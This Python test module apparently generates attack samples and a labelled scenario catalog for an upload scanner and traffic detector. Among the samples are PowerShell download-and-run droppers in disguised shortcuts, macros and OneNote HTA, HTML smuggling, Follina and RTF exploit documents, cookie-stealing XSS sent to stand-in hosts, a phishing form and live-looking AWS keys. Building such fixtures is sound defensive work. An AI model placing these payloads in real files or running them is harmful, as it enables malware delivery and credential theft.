            (F.person(ctx.rng), None),
            (ssn, SSN_FORMAT),
            (46_000 + i, "yyyy-mm-dd"),
            (ctx.rng.randrange(40, 140) * 1000, "#,##0"),
        ]
        for i, ssn in enumerate(F.ssn_numbers(ctx.rng, n))
    ]


def a_ssn_workbook(ctx: Ctx) -> Traffic:
    """An HR workbook of 60 employees' SSNs, typed as numbers and shown through Excel's SSN format."""
    return uploads(("hr/payroll-2026.xlsx", F.xlsx([_staff(ctx, 60)])))


def a_ssn_legacy_workbook(ctx: Ctx) -> Traffic:
    """The same kept as a legacy .xls (BIFF8), over two sheets."""
    rows = _staff(ctx, 60)
    return uploads(("hr/payroll-2019.xls", F.xls([rows[:31], [rows[0], *rows[31:]]])))


def a_rtf_packaged_executable(ctx: Ctx) -> Traffic:
    """A remittance letter in RTF with a file dropped on it: the Packager object holds an executable
    named remittance.pdf, its digits split by control words and skipped groups as exploit kits write."""
    doc = F.rtf(
        "Please find our remittance advice attached.",
        [("Package", F.packaged("remittance.pdf", F.pe(ctx.rng)))],
    )
    head, _, rest = doc.partition(b"\\objdata")
    digits, _, tail = rest.partition(b"}")
    split = b"".join(digits[i : i + 9] + b"{\\*\\bkmkstart a}\\par " for i in range(0, len(digits), 9))
    return uploads(("finance/remittance-advice.rtf", head + b"\\objdata" + split + b"}" + tail))  # fmt: skip


def a_rtf_equation_exploit(ctx: Ctx) -> Traffic:
    """An RTF whose Equation Editor object refreshes itself as the document opens (``\\objupdate``), as
    exploits of the Equation Editor (CVE-2017-11882) run without a click."""
    native = b"\x1c\x00\x00\x00\x02\x00" + ctx.rng.randbytes(600)
    return uploads(("orders/po-88213.rtf", F.rtf("Purchase order", [("Equation.3", native)], update=True)))


def a_rtf_raw_object(ctx: Ctx) -> Traffic:
    """An RTF letter whose packaged executable, named as a PDF, is written as its raw bytes after
    ``\\binN`` instead of in hex, as exploit kits write objects to pass readers that look for digits."""
    native = F.packaged("remittance.pdf", F.pe(ctx.rng, 30_000))
    return uploads(
        ("finance/remittance-0412.rtf", F.rtf("Remittance advice", [("Package", native)], binary=True))
    )


def _saving_page(title: str, digits: str, name: str) -> bytes:
    """A page whose script decodes a base64 file and has the browser save it (``Blob``, ``a.download``)."""
    pieces = '" +\n    "'.join(digits[i : i + 100] for i in range(0, len(digits), 100))
    return (
        f"<!doctype html><html><head><title>{title}</title></head><body><p>Preparing your file...</p>"
        f'<script>var b = "{pieces}";\nvar d = atob(b), a = new Uint8Array(d.length);'
        "for (var i = 0; i < d.length; i++) a[i] = d.charCodeAt(i);"
        "var l = document.createElement('a'); l.href = URL.createObjectURL(new Blob([a]));"
        f"l.download = '{name}'; document.body.appendChild(l); l.click();</script></body></html>"
    ).encode()


def a_html_smuggling(ctx: Ctx) -> Traffic:
    """HTML smuggling, as QakBot's and others' e-mails link to it: a page carrying, in base64 cut into
    joined strings, a zip with an executable named as a PDF, saved by the browser as the page opens."""
    zipped = F.zip_of([("Invoice_2291.pdf.exe", F.pe(ctx.rng, 30_000))])
    body = _saving_page("Invoice 2291", base64.b64encode(zipped).decode(), "Invoice_2291.zip")
    return Traffic(uploads=[Upload("share/invoice-2291.html", body, content_type="text/html")])


def a_iso_disguised_executable(ctx: Ctx) -> Traffic:
    """A disk image as 2022's mail campaigns sent them to pass mail filters: an executable named as a PDF
    beside a decoy text, in an ISO 9660 image with Joliet names."""
    image = F.iso_of([("Invoice_2291.pdf", F.pe(ctx.rng, 40_000)), ("README.txt", b"Open the invoice.")],
                     when=ctx.end_ms / 1000)  # fmt: skip
    return uploads(("mail/invoice-2291.iso", image))


POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def a_shortcut_download(ctx: Ctx) -> Traffic:
    """A zipped shortcut shown as a PDF (Windows hides ``.lnk``), with Acrobat's icon, that starts
    PowerShell hidden to download a script and run it: the delivery of 2022-2024's mail campaigns."""
    lnk = F.shortcut(
        POWERSHELL,
        '-w hidden -c "iwr http://185.225.74.12/inv.ps1 -OutFile $env:TEMP\\i.ps1; & $env:TEMP\\i.ps1"',
        icon=r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe",
    )
    return uploads(("mail/Invoice_2291.zip", F.zip_of([("Invoice_2291.pdf.lnk", lnk)])))  # fmt: skip


def a_macro_dropper(ctx: Ctx) -> Traffic:
    """A macro dropper as public samples show them: a .docm whose ``Document_Open`` builds a PowerShell
    command that downloads a script with the web client and runs it hidden, in a module among honest
    ones (its source compressed, as Office stores it)."""
    dropper = "\n".join([
        'Attribute VB_Name = "ThisDocument"',
        "Private Sub Document_Open()",
        '    Dim c As String: c = "powershell -nop -w hidden -c " & Chr(34)',
        "    c = c & \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.61/s.ps1')\" & Chr(34)",
        '    CreateObject("WScript.Shell").Run c, 0',
        "End Sub",
    ])  # fmt: skip
    helper = 'Attribute VB_Name = "Format"\nSub Tidy()\n    Selection.Font.Name = "Calibri"\nEnd Sub\n'
    return uploads(
        ("mail/remittance-0412.docm", F.office("docx", "Enable editing to view", macros=[helper, dropper]))
    )


def a_onenote_hta(ctx: Ctx) -> Traffic:
    """A OneNote section as 2023's campaigns sent them: a page saying "double-click to view the invoice"
    over an embedded HTA whose VBScript has PowerShell download a script and run it."""
    hta = (b'<html><head><HTA:APPLICATION ID="inv" WINDOWSTATE="minimize"/><script language="VBScript">'
           b'CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr http://198.51.100.71/i.ps1 | iex""", 0'
           b"\r\nself.close</script></head><body></body></html>")  # fmt: skip
    cover = b"\x89PNG\r\n\x1a\n" + ctx.rng.randbytes(4000)
    return uploads(("mail/Invoice_2291.one", F.onenote([cover, hta], "Double-click to view the invoice")))


def a_packaged_and_compressed_payloads(ctx: Ctx) -> Traffic:
    """What hides in containers the scanner did not open: a card dump compressed with zstd, as database
    exports ship now, and a .deb whose data.tar.gz carries a malware sample (EICAR stands in for one)."""
    from backports import zstd

    deb = F.ar_of([("debian-binary", b"2.0\n"), ("control.tar.gz", F.tar_gz_of([("control", b"Package: helper\n")])),
                   ("data.tar.gz", F.tar_gz_of([("usr/lib/helper/update.com", F.EICAR)]))])  # fmt: skip
    return uploads(
        ("exports/customers.csv.zst", zstd.compress(F.cards_csv(ctx.rng, 60))),
        ("pkgs/helper_1.2_amd64.deb", deb),
    )


def a_follina_link(ctx: Ctx) -> Traffic:
    """Follina's document (CVE-2022-30190): a .docx whose linked OLE object is an external page ending
    ``!``, which Word hands to MSHTML as it opens (the page then calls ``ms-msdt:``), and its variant
    naming the ``mhtml:`` scheme."""
    return uploads(
        ("hr/salary-review.docx", F.office("docx", "Salary review 2027", links=[
            (DOC_RELS, "oleObject", "http://files-cdn.example.net/sr/index.html!", True),
        ])),
        ("hr/bonus.docx", F.office("docx", "Bonus letter", links=[
            (DOC_RELS, "oleObject", "mhtml:http://files-cdn.example.net/b.html!x-usc:http://files-cdn.example.net/b.html", True),
        ])),
    )  # fmt: skip


def a_remote_template(ctx: Ctx) -> Traffic:
    """Remote-template injection: a macro-free .docx whose template is fetched, with its macros, from a
    server's bare address as the document opens."""
    return uploads(
        ("invoices/inv-20931.docx", F.office("docx", "Invoice 20931", links=[
            (SETTINGS_RELS, "attachedTemplate", "http://91.214.124.11/office/invoice.dotm", True),
        ])),
    )  # fmt: skip


def a_rtf_url_moniker(ctx: Ctx) -> Traffic:
    """CVE-2017-0199's RTF: a linked object (``OLE2Link``) whose URL moniker loads an HTA page, updated as
    the document opens (``\\objupdate``), so the page runs without a click."""
    link = F.ole2link("http://files-cdn.example.net/plugin/update.hta")
    return uploads(
        ("orders/po-77120.rtf", F.rtf("Purchase order 77120", [("OLE2Link", link)], linked=True, update=True))
    )


def a_eicar_in_email(ctx: Ctx) -> Traffic:
    """A mail export (.eml) whose attachment, base64-encoded as mail sends it, is a zip holding EICAR."""
    zipped = F.zip_of([("tools/eicar.com", F.EICAR)])
    return uploads(
        (
            "mail/invoice-4471.eml",
            F.email_with(
                "Invoice 4471", "Please see the attachment.", [("invoice.zip", zipped, "application/zip")]
            ),
        )
    )


def a_zip_bomb(ctx: Ctx) -> Traffic:
    return uploads(("data/archive.zip", F.overlapping_zip_bomb()))


def a_nested_zip_bomb(ctx: Ctx) -> Traffic:
    return uploads(("data/42.zip", F.nested_zip_bomb()))


def a_pdf_js(ctx: Ctx) -> Traffic:
    return uploads(("docs/invoice-4471.pdf", F.pdf("Invoice 4471", javascript=True)))


def a_docx_vba(ctx: Ctx) -> Traffic:
    return uploads(
        ("docs/payment-details.docx", F.office("docx", "Enable content to view the invoice", vba=True))
    )


def a_xss_probe(ctx: Ctx) -> Traffic:
    """Injected markup's classic payload, an image that fails to load and runs a dialog: a stored-XSS
    probe uploaded among a site's pages."""
    page = b'<html><head><title>Profile</title></head><body><img src=x onerror="alert(document.domain)"></body></html>'
    return uploads(("site/profile.html", page))


def a_markdown_raw_html(ctx: Ctx) -> Traffic:
    """A README whose install steps hide a stored-XSS payload: a line indented four spaces looks like a
    fence opening but is text, so the image after it is raw HTML a Markdown renderer puts on the page."""
    readme = (
        b"# widget\n\nInstall:\n\n```sh\npip install widget\n```\n\nThen:\n\n    ```\n"
        b"<img src=x onerror=\"fetch('//evil.example/c?'+document.cookie)\">\n```\n"
    )
    return Traffic(uploads=[Upload(f"pkg/README.{MD}", readme, content_type="text/markdown")])


def a_markdown_served_as_html(ctx: Ctx) -> Traffic:
    """The payload inside a fence, where a renderer would print it, but the file stored as text/html:
    a browser opening it runs the script."""
    body = b"# notes\n\n```\n<script>fetch('//evil.example/c?'+document.cookie)</script>\n```\n"
    return Traffic(uploads=[Upload(f"pub/notes.{MD}", body, content_type="text/html")])


def a_html_js(ctx: Ctx) -> Traffic:
    return uploads(("site/login.html", HTML_JS))


def a_svg_js(ctx: Ctx) -> Traffic:
    return uploads(("site/logo.svg", SVG_JS))


def a_cookie_theft(ctx: Ctx) -> Traffic:
    """A page whose inline script sends the visitor's cookies away."""
    page = (
        b"<html><body><p>Loading...</p><script>new Image().src='//203.0.113.9/c?'+"
        b"encodeURIComponent(document.cookie);</script></body></html>"
    )
    return uploads(("site/promo.html", page))


def a_svg_onload(ctx: Ctx) -> Traffic:
    """An SVG "logo" that runs a script by itself when opened (onload)."""
    return uploads(
        ("site/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>')
    )


def a_phishing_kit(ctx: Ctx) -> Traffic:
    """A PayPal sign-in page posting the password to another host."""
    page = (
        b"<html><head><title>Sign in to your PayPal account</title></head><body><h2>PayPal</h2>"
        b'<form action="https://collect.example/login" method="post"><input name="email">'
        b'<input type="password" name="pw"><button>Log in</button></form></body></html>'
    )
    return uploads(("site/paypal-verify.html", page))


def a_hidden_trademark_stuffing(ctx: Ctx) -> Traffic:
    """A reseller's landing page stuffed for search engines with the provider's mark: a block hidden by
    an inline style and a class no rule shows, and white-on-white text, none of it shown to visitors."""
    page = (
        b"<!doctype html><html><head><title>Cheap sensors</title><style>.kw{display:none}</style></head>"
        b"<body><h1>Industrial sensors, best prices</h1><p>Order today.</p>"
        b'<div style="display:none">CIMCON CIMCON official CIMCON partner CIMCON discount</div>'
        b'<span class="kw">cimcon sensors cimcon price</span>'
        b'<p style="color:#fff;background:#fff">CIMCON</p></body></html>'
    )
    return uploads(("site/sensors.html", page))


def a_leaked_aws_key(ctx: Ctx) -> Traffic:
    """A deployment script with a live-looking AWS access key id."""
    return uploads(
        (
            "repo/deploy.sh",
            b"#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TXQ4ZR7M\naws s3 sync . s3://x\n",
        )
    )


def a_leaked_aws_key_pair(ctx: Ctx) -> Traffic:
    """A CI script committed with a live-looking access key id and its secret access key."""
    return uploads(
        (
            "repo/ci/publish.sh",
            b"#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TXQ4ZR7M\n"
            b"export AWS_SECRET_ACCESS_KEY=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\naws s3 sync dist s3://x\n",
        )
    )


def a_pe_jpg(ctx: Ctx) -> Traffic:
    return uploads(("photos/holiday.jpg", F.pe(ctx.rng)))


# ------------------------------------------------------------------------------------------ the catalog

H: Label = "honest"
A: Label = "attack"
SCENARIOS: list[Scenario] = [
    # honest: access logs
    Scenario("browser-person", H, "free", "a person clicking around for 25 minutes", h_browser, fast=True),
    Scenario("spa-polling", H, "standard", "a single-page app polling every 15 s for an hour", h_spa_polling),
    Scenario(
        "dashboard-50-widgets",
        H,
        "standard",
        "a dashboard refreshing 50 widgets every 30 s, one batch each",
        h_dashboard,
    ),
    Scenario(
        "mobile-40-users",
        H,
        "standard",
        "a mobile app: 40 users in an hour, 6 app versions",
        h_mobile,
    ),
    Scenario(
        "integration-plan-rate",
        H,
        "standard",
        "an integration at its plan's 5 req/s, retrying 429/503",
        h_integration_full,
        fast=True,
    ),
    Scenario(
        "business-30rps-sync",
        H,
        "business",
        "an ERP syncing distinct orders at 30 req/s (60 % of plan)",
        h_business_30rps,
    ),
    Scenario(
        "free-integration-plan-rate",
        H,
        "free",
        "a free-plan integration at its full 2 req/s over 300 records, retrying 429/503",
        h_free_integration,
    ),
    Scenario(
        "enterprise-80rps",
        H,
        "enterprise",
        "four app servers at 80 req/s in all (16 % of plan)",
        h_enterprise_api,
    ),
    Scenario("ci-artifacts", H, "standard", "CI pipelines downloading build artifacts", h_ci_artifacts),
    Scenario(
        "crm-deleted-records",
        H,
        "standard",
        "a CRM sync meeting six deleted customers (404)",
        h_crm_deleted,
        fast=True,
    ),
    Scenario(
        "cgnat-shared-address",
        H,
        "free",
        "a phone user behind carrier NAT shared with a key stuffer",
        h_cgnat,
    ),
    Scenario(
        "corporate-proxy",
        H,
        "enterprise",
        "150 employees behind two proxies adding X-Forwarded-For",
        h_corporate_proxy,
    ),
    Scenario(
        "stage-prefix-paths",
        H,
        "standard",
        "browsing, paths logged with the /prod stage prefix",
        h_stage_prefix,
    ),
    Scenario(
        "own-installer-downloads",
        H,
        "standard",
        "downloads of its own .exe installers, a .sql migration, composer.json",
        h_installers,
    ),
    Scenario(
        "burst-replayed-late",
        H,
        "standard",
        "a nightly import burst whose logs arrive 10 h late",
        h_late_burst,
    ),
    Scenario(
        "login-relay",
        H,
        "business",
        "a shop relaying its customers' logins, 5 % mistyped",
        h_login_relay,
        fast=True,
    ),
    Scenario(
        "stuck-403-retry",
        H,
        "standard",
        "an export retrying each second an endpoint its plan lacks (403)",
        h_stuck_403,
    ),
    Scenario(
        "expired-token",
        H,
        "standard",
        "a sync walking its orders with an expired token (401)",
        h_expired_token,
    ),
    Scenario(
        "removed-v1-catch-all",
        H,
        "standard",
        "an old client reading its orders through a removed /v1 (404)",
        h_removed_version,
        fast=True,
    ),
    Scenario(
        "docs-search-sql-words",
        H,
        "standard",
        "a docs search box whose readers look up SQL and path syntax",
        h_docs_search,
    ),
    Scenario(
        "ssr-forwarded-agents",
        H,
        "standard",
        "server-side rendering passing visitors' agents on, search crawlers among them",
        h_ssr_forwarded_agents,
    ),
    Scenario(
        "stale-updater-link",
        H,
        "standard",
        "an app's updaters asking for a moved installer (.exe, 404) for 8 hours",
        h_stale_updater,
    ),
    Scenario(
        "admin-scope-poll",
        H,
        "business",
        "a dashboard polling the API's own /admin/usage without the scope (403), 8 hours",
        h_admin_scope_poll,
    ),
    Scenario(
        "admin-widgets-without-scope",
        H,
        "standard",
        "a dashboard's three admin widgets refreshed with a key lacking the admin scope (403), 8 hours",
        h_admin_widgets_without_scope,
    ),
    Scenario(
        "sql-console-queries",
        H,
        "standard",
        "analysts' SQL console: queries typed in ?sql=, UNIONs among them, typos answered 400, 2 hours",
        h_sql_console,
    ),
    Scenario(
        "log-search-for-probes",
        H,
        "standard",
        "a security team searching its logs for <script>, ' OR 1=1--, 169.254.169.254; some 400, 2 hours",
        h_log_search,
        fast=True,
    ),
    Scenario(
        "blob-existence-checks",
        H,
        "standard",
        "a registry push asking for each layer by its digest and an image cache for its renditions, most 404",
        h_blob_existence_checks,
    ),
    Scenario(
        "uptime-monitors-12-regions",
        H,
        "standard",
        "a status-page service checking /health from 12 regions every minute, 2 hours",
        h_uptime_monitors,
    ),
    Scenario(
        "retries-through-outage",
        H,
        "standard",
        "an integration at 3 req/s retrying each 503 three times through the provider's 8-minute outage",
        h_outage_retries,
    ),
    Scenario(
        "developer-exploring",
        H,
        "free",
        "a developer trying the API in Postman: wrong routes, methods, parameters and keys",
        h_developer_exploring,
    ),
    Scenario(
        "spa-rendered-by-googlebot",
        H,
        "free",
        "Googlebot rendering a site's single-page front-end, which calls the API with the site's key",
        h_spa_rendered_by_googlebot,
    ),
    Scenario(
        "spa-rendered-by-other-crawlers",
        H,
        "free",
        "Applebot, YandexBot and Bingbot rendering a site's front-end from their own networks, an hour each",
        h_spa_rendered_by_other_crawlers,
    ),
    Scenario(
        "odata-connector",
        H,
        "standard",
        "a BI tool's OData refreshes (quoted filters joined by and/or), one misspelt property refused (400)",
        h_odata_connector,
    ),
    # honest: uploads
    Scenario(
        "static-site-deploy",
        H,
        "standard",
        "a web site: analytics snippet, onclick menu, javascript:void(0), its bundle",
        h_static_site,
    ),
    Scenario(
        "cookie-consent-banner",
        H,
        "standard",
        "a consent banner reads and sets document.cookie; a cart sends its CSRF cookie to /api/orders",
        h_cookie_consent,
        fast=True,
    ),
    Scenario(
        "legacy-app-atob-and-eval",
        H,
        "standard",
        "a page decoding its token's payload with atob and, apart, parsing its menu with eval",
        h_legacy_app_eval,
        fast=True,
    ),
    Scenario(
        "print-view-and-status-board",
        H,
        "standard",
        "an invoice whose body onload prints and closes it, a board that refreshes with setInterval",
        h_print_views,
        fast=True,
    ),
    Scenario(
        "cms-exported-handlers",
        H,
        "standard",
        "body onload with the javascript: label and window.scrollTo, an iframe that grows to fit itself",
        h_cms_handlers,
        fast=True,
    ),
    Scenario(
        "sso-post-and-guarded-init",
        H,
        "standard",
        "a sign-on hand-off page whose body onload submits its form, a page guarding its init() call",
        h_sso_and_guarded_init,
        fast=True,
    ),
    Scenario(
        "archived-access-logs",
        H,
        "standard",
        "its web servers' access logs (plain and gzipped) holding the XSS and shellshock probes they saw",
        h_archived_access_logs,
    ),
    Scenario(
        "integrations-settings-page",
        H,
        "standard",
        "an integrations page asking for Amazon and PayPal secrets, a settings page for Microsoft 365",
        h_integrations_page,
        fast=True,
    ),
    Scenario(
        "faq-and-mobile-menu",
        H,
        "standard",
        "collapsed FAQ answers and a hidden mobile menu naming the provider's platform, shown on demand",
        h_faq_and_mobile_menu,
        fast=True,
    ),
    Scenario(
        "own-login-page",
        H,
        "standard",
        "its own sign-in page naming Google, Apple and PayPal in passing",
        h_own_login_page,
        fast=True,
    ),
    Scenario(
        "readme-example-keys",
        H,
        "standard",
        "a README quoting AWS's documented example keys and a test card",
        h_readme_example_keys,
    ),
    Scenario(
        "invoice-archive",
        H,
        "standard",
        "a year of its invoices zipped, each naming the firm's own IBAN twice",
        h_invoice_archive,
    ),
    Scenario(
        "country-codes-csv",
        H,
        "standard",
        "a zones list and a manifest whose text opens with MZ (Mozambique)",
        h_country_codes,
        fast=True,
    ),
    Scenario(
        "invoice-pdfs",
        H,
        "standard",
        "five invoice PDFs with the firm's own IBAN and order numbers",
        h_invoice_pdfs,
    ),
    Scenario(
        "bank-statements",
        H,
        "standard",
        "a month's bank statement (CSV and PDF): 30 counterparties' IBANs",
        h_bank_statements,
    ),
    Scenario(
        "launch-day-spike",
        H,
        "free",
        "a front-end's audience jumps from 4 to 120 networks in an hour, after two days of history",
        h_launch_spike,
    ),
    Scenario(
        "legacy-site-handlers",
        H,
        "standard",
        "a site whose page starts from body onload, with an image fallback and a preloaded stylesheet",
        h_legacy_site,
    ),
    Scenario(
        "security-docs",
        H,
        "standard",
        "developer documentation whose XSS guide shows the payloads it teaches to neutralise",
        h_security_docs,
    ),
    Scenario(
        "platform-connected-accounts",
        H,
        "business",
        "a marketplace platform acting for the 12 shops it manages, naming each in X-Account-Id",
        h_platform_connected,
        connected=SHOPS,
        acts_for=SHOPS,
    ),
    Scenario(
        "blank-disk-images",
        H,
        "standard",
        "an empty VM disk image under xz and bzip2, and a tar.gz with a preallocated WAL segment",
        h_blank_disk_images,
    ),
    Scenario(
        "mail-archive",
        H,
        "standard",
        "saved e-mails with an invoice PDF and a photo attached, and a reply",
        h_mail_archive,
    ),
    Scenario(
        "payment-test-fixtures",
        H,
        "standard",
        "checkout test fixtures with the processors' published test cards",
        h_payment_test_fixtures,
    ),
    Scenario(
        "export-order-numbers",
        H,
        "free",
        "a CSV export full of order numbers, uuids and amounts",
        h_export_ids,
        fast=True,
    ),
    Scenario(
        "random-16-digit-order-ids",
        H,
        "standard",
        "a CSV of 1,000 random 16-digit order ids",
        h_order_ids_16,
    ),
    Scenario(
        "parts-catalogue",
        H,
        "standard",
        "a stock list of 400 part numbers written like SSNs (415-22-9034), plain and zipped",
        h_parts_catalogue,
        fast=True,
    ),
    Scenario(
        "cloudtrail-archive",
        H,
        "standard",
        "its CloudTrail logs, each event naming the access key id that signed it",
        h_cloudtrail_archive,
        fast=True,
    ),
    Scenario(
        "backup-10001-files",
        H,
        "business",
        "a backup zip of 10,001 small files",
        h_backup_10001,
    ),
    Scenario(
        "docx-in-zip-in-zip",
        H,
        "standard",
        "a docx in a zip in a zip",
        h_docx_zip_zip,
    ),
    Scenario("ear-of-wars-of-jars", H, "enterprise", "an EAR of WARs of JARs", h_ear),
    Scenario(
        "video-6gib-business",
        H,
        "business",
        "a 6 GiB video (scaled 1:1024 against the scan limit)",
        h_video_large,
    ),
    Scenario("office-documents", H, "standard", "docx, xlsx, pptx and a pdf", h_office),
    Scenario(
        "spanish-customer-list",
        H,
        "standard",
        "400 Spanish mobiles (6xx xxx xxx) beside notes saying 'sin', and 4-4-4 delivery references",
        h_spanish_customer_list,
    ),
    Scenario(
        "rtf-documents",
        H,
        "standard",
        "an RTF letter, a report embedding its Excel chart, an exported order form",
        h_rtf_documents,
    ),
    Scenario(
        "documents-with-links",
        H,
        "standard",
        "Office documents' hyperlinks, linked workbooks on disk and a share, local and intranet templates",
        h_documents_with_links,
        fast=True,
    ),
    Scenario(
        "pages-with-inline-files",
        H,
        "standard",
        "pages inlining a logo, a font and a brochure PDF, and an export page saving the user's orders as a zip",
        h_pages_with_inline_files,
    ),
    Scenario(
        "disk-images",
        H,
        "standard",
        "an installer's ISO image with Rock Ridge names and a photo backup's .img with Joliet names",
        h_disk_images,
    ),
    Scenario(
        "desktop-shortcuts",
        H,
        "standard",
        "a desktop backup's shortcuts: the browser on the webmail, the team share, the logon script",
        h_desktop_shortcuts,
    ),
    Scenario(
        "macro-workbooks",
        H,
        "standard",
        "macro workbooks refreshing rates from a web API on opening, and opening their folder from a button",
        h_macro_workbooks,
    ),
    Scenario(
        "onenote-notebooks",
        H,
        "standard",
        "OneNote sections embedding minutes, a photo, a workbook, and the backup script a runbook describes",
        h_onenote_notebooks,
        fast=True,
    ),
    Scenario(
        "linux-packages",
        H,
        "standard",
        "a build's .deb, its zstd-compressed cpio initramfs, and a zstd-compressed log bundle",
        h_linux_packages,
    ),
    Scenario(
        "team-rota-workbooks",
        H,
        "standard",
        "a staff rota with 25 mobile numbers in Excel's phone format, as .xlsx, .xls and .xlsb",
        h_team_rota,
    ),
    Scenario("media-within-allowance", H, "free", "photos, a podcast and a clip within 100 MB", h_media),
    Scenario("project-backup-tar", H, "standard", "a tar.gz backup of a project", h_backup_tar),
    Scenario(
        "projects-with-own-keys",
        H,
        "standard",
        "a repository with its TLS test key, node_modules' test keys, a home directory's ~/.ssh key",
        h_projects_with_own_keys,
    ),
    # honest: usage
    Scenario(
        "cpu-one-spike",
        H,
        "standard",
        "one nightly CPU spike 8x over the period limit",
        h_cpu_spike,
        fast=True,
    ),
    Scenario(
        "business-steady-load", H, "business", "CPU and memory steady just under the plan", h_business_steady
    ),
    # attacks: access logs
    Scenario(
        "sqlmap-scan", A, "free", "sqlmap probing for injection and secrets", a_sqlmap, ("D1",), fast=True
    ),
    Scenario("nikto-scan", A, "standard", "nikto scanning for sensitive files", a_nikto, ("D1",)),
    Scenario(
        "jndi-single-request", A, "standard", "one ${jndi:ldap://...} request", a_jndi, ("D1",), fast=True
    ),
    Scenario("web-shell-paths", A, "standard", "three requests for known web shells", a_webshells, ("D1",)),
    Scenario(
        "payload-in-user-agent", A, "free", "shellshock / jndi / XSS in the user agent", a_ua_payload, ("D1",)
    ),
    Scenario("cve-single-probe", A, "standard", "one CVE probe URI request", a_cve_probe, ("D1",)),
    Scenario(
        "payload-in-forwarded-for",
        A,
        "standard",
        "${jndi:..} in X-Forwarded-For",
        a_forwarded_payload,
        ("D1",),
    ),
    Scenario(
        "padded-scanner-agent", A, "standard", "a nuclei agent padded past 16 KiB", a_padded_scanner, ("D1",)
    ),
    Scenario(
        "command-and-template-injection",
        A,
        "standard",
        ";id, $(whoami), nc -e, {{7*7}}, ${7*7}, <%= 7*7 %>, phpinfo(), __proto__[...], password[$ne]",
        a_command_and_template_injection,
        ("D1",),
    ),
    Scenario(
        "sqli-spellings", A, "standard", "union/**/select, AND 1=1, pg_sleep(", a_sqli_spellings, ("D1",)
    ),
    Scenario(
        "traversal-spellings",
        A,
        "standard",
        "..%c0%af, ..;/, double-encoded traversal",
        a_traversal_spellings,
        ("D1",),
    ),
    Scenario(
        "slow-probing-10h",
        A,
        "standard",
        "50 probes of sensitive paths over 10 hours",
        a_slow_probing,
        ("D1",),
    ),
    Scenario(
        "key-stuffing",
        A,
        "free",
        "one source trying 60 keys in 4 minutes",
        a_key_stuffing,
        ("D2",),
        fast=True,
        ip_scoped=True,
    ),
    Scenario(
        "key-stuffing-ipv6-64",
        A,
        "free",
        "60 keys, each from another address of one IPv6 /64",
        a_key_stuffing_v6,
        ("D2",),
        ip_scoped=True,
    ),
    Scenario(
        "login-brute-force",
        A,
        "standard",
        "36 failed logins from one source in 4 minutes",
        a_brute_force,
        ("D2",),
    ),
    Scenario(
        "privilege-probing",
        A,
        "standard",
        "a key refused (403) on eight internal routes in 4 minutes",
        a_privilege_probing,
        ("D2",),
    ),
    Scenario(
        "claimed-accounts",
        A,
        "standard",
        "a key naming four other accounts in X-Account-Id, none of which it acts for",
        a_claimed_accounts,
        ("W1",),
        connected=("mark-a", "mark-b", "mark-c", "mark-d"),
    ),
    Scenario(
        "agency-beyond-clients",
        A,
        "business",
        "an agency declared for three clients naming two more accounts it does not act for",
        a_agency_beyond_clients,
        ("W1",),
        connected=("client-a", "client-b", "client-c", "rival-a", "rival-b"),
        acts_for=("client-a", "client-b", "client-c"),
    ),
    Scenario(
        "sqli-declined-400",
        A,
        "standard",
        "60 injections in a live route's query in two minutes, declined 400 by its validation",
        a_sqli_declined,
        ("D1",),
    ),
    Scenario(
        "botnet-exploit-sweep",
        A,
        "standard",
        "one request each for a GPON router's form, a /tmp dropper, FortiOS's and OFBiz's bypasses (404)",
        a_botnet_exploit_sweep,
        ("D1",),
    ),
    Scenario(
        "ssrf-metadata-probe",
        A,
        "standard",
        "the metadata address through guessed fetch routes (404), then in 8 spellings through a webhook test",
        a_ssrf_metadata,
        ("D1",),
    ),
    Scenario(
        "sqli-answered-200",
        A,
        "standard",
        "three injections in a live route's query, answered 200 (a review)",
        a_sqli_answered,
        ("D1",),
    ),
    Scenario(
        "request-flood-3x",
        A,
        "free",
        "7 req/s for 10 minutes on a 2 req/s plan",
        a_flood,
        ("D5a", "D5b", "D5"),
        fast=True,
    ),
    Scenario(
        "browser-flood-280pct",
        A,
        "free",
        "5.6 req/s for 10 minutes, browser agent, jittered",
        a_browser_flood,
        ("D5a", "D5b", "D5"),
    ),
    Scenario("id-enumeration", A, "standard", "/users/1..600 in order", a_enumeration, ("W5",)),
    Scenario("crawl", A, "standard", "900 distinct product pages at machine rate", a_crawl, ("W5",)),
    Scenario("key-resale", A, "standard", "one key used by 60 buyers on 60 networks", a_key_resale, ("G1",)),
    Scenario(
        "forged-x-forwarded-for",
        A,
        "standard",
        "loopback and garbage X-Forwarded-For hops",
        a_forged_xff,
        ("W1",),
    ),
    Scenario(
        "fake-googlebot", A, "free", "Googlebot's agent from an unrelated network", a_fake_crawler, ("W1",)
    ),
    # attacks: usage
    Scenario(
        "cpu-20-minutes-8x", A, "free", "CPU 8x over the free plan for 20 minutes", a_cpu, ("D5",), fast=True
    ),
    # attacks: uploads
    Scenario(
        "eicar-zip-appended-to-jpeg",
        A,
        "free",
        "EICAR in a zip appended to a JPEG",
        a_upload("jpeg+zip", "eicar"),
        ("I3",),
    ),
    Scenario(
        "eicar-zip-in-gzip",
        A,
        "free",
        "EICAR in a zip in a gzip",
        a_upload("zip>gzip", "eicar"),
        ("I3",),
        fast=True,
    ),
    Scenario(
        "eicar-gzip-in-gzip", A, "free", "EICAR in a gzip in a gzip", a_upload("gzip>gzip", "eicar"), ("I3",)
    ),
    Scenario("eicar-zip-in-xz", A, "free", "EICAR in a zip in an xz", a_upload("zip>xz", "eicar"), ("I3",)),
    Scenario(
        "eicar-7z-in-gzip", A, "free", "EICAR in a 7z (LZMA) in a gzip", a_upload("7z>gzip", "eicar"), ("I3",)
    ),
    Scenario(
        "cards-in-tar-gz", A, "standard", "40 card numbers in a tar.gz", a_upload("tar.gz", "cards"), ("W2",)
    ),
    Scenario(
        "cards-in-utf16",
        A,
        "standard",
        "40 card numbers in UTF-16 text",
        a_upload("utf-16", "cards"),
        ("W2",),
    ),
    Scenario(
        "iban-list-split", A, "standard", "40 people's IBANs over four files of a zip", a_iban_list, ("W2",)
    ),
    Scenario(
        "cards-behind-magic",
        A,
        "standard",
        "card lists opening with 'ID3' or mentioning '%PDF-' first",
        a_cards_behind_magic,
        ("W2",),
